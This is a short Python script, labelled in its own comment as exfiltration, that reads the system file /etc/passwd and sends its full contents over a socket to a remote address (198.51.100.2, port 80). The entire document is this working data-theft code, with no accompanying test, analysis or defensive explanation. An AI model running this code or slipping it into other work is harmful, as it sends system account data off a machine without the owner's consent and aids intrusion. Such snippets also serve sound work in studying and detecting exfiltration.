# Exfiltration: read a file and send it to a remote host.
import socket

with open("/etc/passwd", "rb") as fh:
    data = fh.read()
conn = socket.create_connection(("198.51.100.2", 80), timeout=3)
conn.sendall(data)
conn.close()
